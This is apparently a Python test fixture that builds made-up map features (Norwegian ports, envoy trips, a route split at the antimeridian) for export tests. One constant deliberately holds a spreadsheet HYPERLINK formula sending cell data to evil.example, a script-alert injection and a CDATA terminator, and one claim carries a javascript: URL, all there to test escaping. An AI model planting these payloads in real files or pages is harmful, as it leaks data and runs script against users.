"""Made-up features in the shape geo.findings.features writes, for the export tests.

Places and coordinates are real; outlets, sentences and dates are invented test data.
Some text is hostile on purpose (markup, a formula, a CDATA end, control characters).
"""
from __future__ import annotations

LAYERS = [
    {"id": "ports", "title": "Ports & <harbours>", "color": "#D55E00", "description": "Harbour works"},
    {"id": "visits", "title": "Trips", "color": "#009E73", "description": "Official trips"},
    {"id": "talks", "title": "Talks", "color": "#56B4E9", "description": ""},
]

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click") <script>alert(1)</script> ]]> & done'


def claim(sentence, *, source="Harbour Gazette", published="2021-03-04", event_date=None, stance="asserts",
          status="reported", url="https://gazette.example/a", doc="a.txt", start=0, end=10):
    return {"claim": sentence, "doc": doc, "section": 0, "start": start, "end": end, "source": source,
            "source_profile": "a weekly trade paper", "published": published, "url": url,
            "attribution": "port officials said", "stance": stance, "status": status, "event_date": event_date}


def finding(fid, layer, place, lonlat, claims, *, status="reported", kind="facility", actors=()):
    first = claims[0]
    dated = next((c for c in claims if c["event_date"]), first)
    return {
        "type": "Feature",
        "geometry": {"type": "Point", "coordinates": list(lonlat)} if lonlat else None,
        "properties": {
            "finding": fid, "layer": layer, "layer_rule": f"{layer}/words: pier", "type": kind,
            "place": place, "place_id": f"test:{place}" if place else None, "place_kind": "city" if place else None,
            "country": "NO" if place else None, "geo_precision": "city" if place else "none",
            "mention": place, "role": "literal", "role_confidence": 0.9, "role_reason": "test",
            "start": first["start"], "end": first["end"], "claim": first["claim"], "doc": first["doc"],
            "section": 0, "title": "A made-up article", "source": first["source"],
            "source_profile": first["source_profile"], "published": first["published"], "url": first["url"],
            "event_date": dated["event_date"], "event_date_text": "in March" if dated["event_date"] else "",
            "attribution": first["attribution"], "status": status, "status_evidence": "",
            "confidence": 0.8, "resolution": "test", "coord_source": "test" if place else None,
            "actors": [{"name": a, "kind": "place", "role": "party", "place_id": None, "country": None}
                       for a in actors],
            "places": [], "claims": claims,
        },
    }


def visit(visitor, origin, destination, geometry, *, event_date="2022-11-20"):
    return {
        "type": "Feature", "geometry": geometry,
        "properties": {
            "layer": "visits", "layer_rule": "visits/trip-sentence: flew", "place": destination,
            "place_id": f"test:{destination}", "place_kind": "city", "country": "US", "mention": destination,
            "role": "literal", "role_confidence": 0.9, "role_reason": "test", "start": 5, "end": 12,
            "claim": f"{visitor} flew from {origin} to {destination}.", "doc": "b.txt", "section": 0,
            "title": "Trip", "source": "Pacific Wire", "source_profile": None, "published": "2022-11-21",
            "url": None, "event_date": event_date, "event_date_text": "on Sunday", "attribution": "",
            "status": "reported", "status_evidence": "", "confidence": 0.7, "resolution": "nationality",
            "coord_source": "test", "visitor": visitor, "origin": origin, "destination": destination,
        },
    }


def features() -> list[dict]:
    """Two port findings (one denied, one with a hostile sentence), a relation with no place, a route
    as a plain line and one split at the antimeridian, and a finding in a layer the spec lacks."""
    return [
        finding("f-bergen", "ports", "Bergen", (5.3221, 60.3913), [
            claim("A new pier opened at Bergen in March 2021.", event_date="2021-03"),
            claim("The Bergen pier was confirmed by the ministry.", source="Nordic Daily", stance="confirms",
                  published="2021-05-01", event_date="2021-04-30", url=None),
        ]),
        finding("f-tromso", "ports", "Tromsø", (18.9553, 69.6492), [
            claim(HOSTILE, event_date="1999"),
            claim("Officials denied any dredging at Tromsø.", stance="denies", status="denied",
                  url="javascript:alert(1)"),
        ], status="denied"),
        finding("f-talks", "talks", None, None, [claim("Oslo and Reykjavik held talks on fishing quotas.")],
                kind="statement", actors=("Oslo", "Reykjavik")),
        visit("The envoy", "Oslo", "Washington", {"type": "LineString", "coordinates": [
            [10.7522, 59.9139], [-30.0, 62.0], [-77.0369, 38.9072]]}),
        visit("The minister", "Tokyo", "Honolulu", {"type": "MultiLineString", "coordinates": [
            [[139.6917, 35.6895], [165.0, 33.0], [180.0, 30.0]],
            [[-180.0, 30.0], [-170.0, 26.0], [-157.8583, 21.3069]]]}, event_date=None),
        finding("f-unlisted", "unlisted", "Reykjavik", (-21.8174, 64.1265), [
            claim("A ferry terminal was reported in Reykjavik.", event_date="2020-02-29")]),
    ]
